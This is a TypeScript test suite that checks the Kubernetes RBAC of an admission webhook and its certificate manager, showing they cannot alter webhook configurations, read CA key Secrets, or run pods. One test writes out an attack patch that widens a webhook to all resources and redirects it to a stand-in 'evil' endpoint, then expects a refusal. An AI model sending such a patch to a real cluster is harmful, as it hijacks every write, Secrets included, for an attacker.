import type { Test } from "tap";
import { makeAuthority } from "../../../../certs/make.ts";
import { manifestObjects } from "../../../../manifests/render.ts";
import { field, stringAt } from "../../../../shared/formats/json.ts";
import type { Cluster } from "../../apiserver/cluster.ts";
import type { Identity } from "../../apiserver/identities.ts";
import { onCluster } from "../../apiserver/on-cluster.ts";
import { apply } from "../installed-webhook.ts";
import { CONFIGURATIONS, JSON_PATCH, LEASE, MERGE_PATCH, NAMESPACE, SECRET, SERVING } from "./objects.ts";
import { OPTIONS } from "./replicas.ts";

const REVIEWS = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";
const CORE = `/api/v1/namespaces/${NAMESPACE}`;
const POD = { metadata: { name: "a" }, spec: { containers: [{ name: "a", image: "a" }] } };
const OTHER_SECRET = { metadata: { name: "other" } };

interface Attempt {
  readonly group?: string;
  readonly resource: string;
  readonly subresource?: string;
  readonly name?: string;
  readonly verb: string;
  readonly namespace?: string;
}

const GROUP = "admissionregistration.k8s.io";
const OF_CONFIGURATIONS: readonly Attempt[] = ["mutating", "validating"].flatMap((kind) => (
  ["create", "update", "patch", "delete", "deletecollection"].map((verb) => (
    { group: GROUP, resource: `${kind}webhookconfigurations`, name: "ack-role-resolver", verb }
  ))
));
const OF_POLICIES: readonly Attempt[] = ["validatingadmissionpolicies", "validatingadmissionpolicybindings"].flatMap(
  (resource) => ["create", "update", "patch", "delete"].map((verb) => ({ group: GROUP, resource, verb })),
);
const NAMES = ["ack-role-resolver-certificates", "ack-role-resolver-webhook-tls", "other"];
const OF_SECRETS: readonly Attempt[] = NAMES.flatMap((name) => (
  ["get", "list", "watch", "create", "update", "patch", "delete"].map((verb) => (
    { resource: "secrets", name, verb, namespace: NAMESPACE }
  ))
));
/** What would let an account run a program as another account. */
const OF_WORKLOADS: readonly Attempt[] = [
  { resource: "pods" }, { resource: "pods", subresource: "exec" },
  { resource: "pods", subresource: "ephemeralcontainers" },
  { group: "batch", resource: "jobs" }, { group: "batch", resource: "cronjobs" },
  { group: "apps", resource: "deployments" }, { group: "apps", resource: "daemonsets" },
  { resource: "serviceaccounts", subresource: "token", name: "ack-role-resolver-certificates" },
  { group: "rbac.authorization.k8s.io", resource: "rolebindings" },
  { group: "rbac.authorization.k8s.io", resource: "clusterrolebindings" },
].flatMap((one) => ["create", "update", "patch"].map((verb) => ({ ...one, verb, namespace: NAMESPACE })));

async function allowed(cluster: Cluster, user: Identity, attempts: readonly Attempt[]): Promise<readonly string[]> {
  const results = await Promise.all(attempts.map(async (attempt) => {
    const spec = { resourceAttributes: attempt };
    const review = { apiVersion: "authorization.k8s.io/v1", kind: "SelfSubjectAccessReview", spec };
    const { body } = await cluster.request("POST", REVIEWS, review, { user });
    const path = [attempt.resource, attempt.subresource].filter(Boolean).join("/");
    const text = `${attempt.verb} ${path} ${attempt.name ?? ""}`.trim();
    return field(field(body, "status"), "allowed") === true ? [text] : [];
  }));
  return results.flat();
}

async function hasNoPower(t: Test, cluster: Cluster): Promise<void> {
  t.same(await allowed(cluster, "webhook", OF_CONFIGURATIONS), []);
  t.same(await allowed(cluster, "webhook", OF_POLICIES), []);
  t.same(await allowed(cluster, "webhook", OF_SECRETS), []);
  t.same(await allowed(cluster, "webhook", OF_WORKLOADS), []);
}

/** Sends the requests of the attack: redirect all writes of Secrets and ClusterRoleBindings to the attacker. */
async function cannotRedirect(t: Test, cluster: Cluster): Promise<void> {
  const now = new Date();
  const { cert } = await makeAuthority({ names: ["evil"], now, notAfter: new Date(now.getTime() + 86_400_000) });
  const rule = { apiGroups: ["*"], apiVersions: ["*"], resources: ["*"], operations: ["*"], scope: "*" };
  const patch = [
    { op: "add", path: "/webhooks/0/rules", value: [rule] },
    { op: "add", path: "/webhooks/0/clientConfig", value: { url: "https://10.0.0.1/evil", caBundle: btoa(cert) } },
  ];
  const user = "webhook";
  const [asJSON, asMerge] = [{ ...JSON_PATCH, user }, { ...MERGE_PATCH, user }] as const;
  const asApply = { user, headers: { "content-type": "application/apply-patch+yaml" } } as const;
  for (const path of CONFIGURATIONS) {
    const before = await cluster.request("GET", path);
    const statuses = [
      await cluster.request("PATCH", path, patch, asJSON), await cluster.request("PATCH", path, {}, asMerge),
      await cluster.request("PATCH", `${path}?fieldManager=a&force=true`, before.body, asApply),
      await cluster.request("PUT", path, before.body, { user }),
      await cluster.request("DELETE", path, undefined, { user }),
    ].map(({ status }) => status);
    t.same(statuses, [403, 403, 403, 403, 403], path);
    t.same((await cluster.request("GET", path)).body, before.body);
  }
}

async function cannotReadKeys(t: Test, cluster: Cluster): Promise<void> {
  const user = "webhook";
  for (const path of [SECRET, SERVING]) {
    const name = path.split("/").at(-1) ?? "";
    const selected = `${CORE}/secrets?fieldSelector=metadata.name%3D${name}`;
    for (const url of [path, selected, `${selected}&watch=true`, `${CORE}/secrets`]) {
      t.equal((await cluster.request("GET", url, undefined, { user })).status, 403, url);
    }
    t.equal((await cluster.request("PATCH", path, { data: {} }, { ...MERGE_PATCH, user })).status, 403);
  }
  const token = { spec: { audiences: [] } };
  const url = `${CORE}/serviceaccounts/ack-role-resolver-certificates/token`;
  t.equal((await cluster.request("POST", url, token, { user })).status, 403);
}

async function cannotRunPods(t: Test, cluster: Cluster): Promise<void> {
  const job = { metadata: { name: "a" }, spec: { template: { spec: { ...POD.spec, restartPolicy: "Never" } } } };
  for (const user of ["webhook", "certificates"] as const) {
    t.equal((await cluster.request("POST", `${CORE}/pods`, POD, { user })).status, 403);
    t.equal((await cluster.request("POST", `/apis/batch/v1/namespaces/${NAMESPACE}/jobs`, job, { user })).status, 403);
  }
}

/** The account of `certs manage` has exactly the rights that the threat model names. */
async function hasFewRights(t: Test, cluster: Cluster): Promise<void> {
  t.same(await allowed(cluster, "certificates", OF_CONFIGURATIONS), [
    "patch mutatingwebhookconfigurations ack-role-resolver", "patch validatingwebhookconfigurations ack-role-resolver",
  ]);
  const verbs = ["list", "watch", "create", "update"];
  const own = NAMES.slice(0, 2).flatMap((name) => verbs.map((verb) => `${verb} secrets ${name}`));
  t.same(await allowed(cluster, "certificates", OF_SECRETS), [...own, "create secrets other"]);
  t.same(await allowed(cluster, "certificates", OF_WORKLOADS), []);
  t.same(await allowed(cluster, "certificates", OF_POLICIES), []);
  const elsewhere = OF_SECRETS.map((one) => ({ ...one, namespace: "default" }));
  t.same(await allowed(cluster, "certificates", elsewhere), []);
  const user = "certificates";
  const other = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/other";
  t.equal((await cluster.request("PATCH", other, [], { ...JSON_PATCH, user })).status, 403);
  t.equal((await cluster.request("POST", `${CORE}/secrets`, OTHER_SECRET, { user })).status, 201);
  t.equal((await cluster.request("GET", `${CORE}/secrets/other`, undefined, { user })).status, 403);
  t.equal((await cluster.request("DELETE", LEASE, undefined, { user })).status, 403);
}

onCluster("the webhook has no power over its configurations and the key of its CA", async (t, cluster) => {
  await cluster.request("POST", "/api/v1/namespaces", { metadata: { name: OPTIONS.ackSystemNamespace } });
  const all = { ...OPTIONS, accessReviews: true, autoControllerIdentity: ["none"], inject: true };
  await apply(cluster, manifestObjects("rbac", all));
  await apply(cluster, manifestObjects("webhooks", { ...OPTIONS, url: "https://127.0.0.1:1" }));
  const stored = JSON.stringify((await cluster.request("GET", SECRET)).body);
  t.notMatch(stored, /"data"/, "the manifests contain no key");
  t.equal(stringAt((await cluster.request("GET", SERVING)).body, "type"), "Opaque");
  await t.test("it is allowed nothing", async (tt) => hasNoPower(tt, cluster));
  await t.test("it cannot redirect the writes of the cluster to itself", async (tt) => cannotRedirect(tt, cluster));
  await t.test("it cannot read or write the Secrets of the certificates", async (tt) => cannotReadKeys(tt, cluster));
  await t.test("neither account can create Pods or Jobs", async (tt) => cannotRunPods(tt, cluster));
  await t.test("the account of `certs manage` has only its rights", async (tt) => hasFewRights(tt, cluster));
});
